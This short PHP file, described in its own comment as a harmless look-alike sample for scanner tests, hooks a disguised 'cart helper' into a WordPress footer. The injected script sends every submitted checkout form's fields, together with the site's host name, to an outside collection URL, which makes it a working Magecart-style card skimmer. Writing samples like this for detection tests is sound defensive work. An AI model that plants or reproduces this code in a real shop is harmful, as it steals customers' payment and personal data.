<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
function cart_helper_js() {
    echo "<script>jQuery(function($){ $('form[name=checkout]').on('submit', function(){
      $.post('https://analytics-cdn.example.top/collect', {p: $(this).serialize(), h: location.host});
    }); });</script>";
}
add_action('wp_footer', 'cart_helper_js');
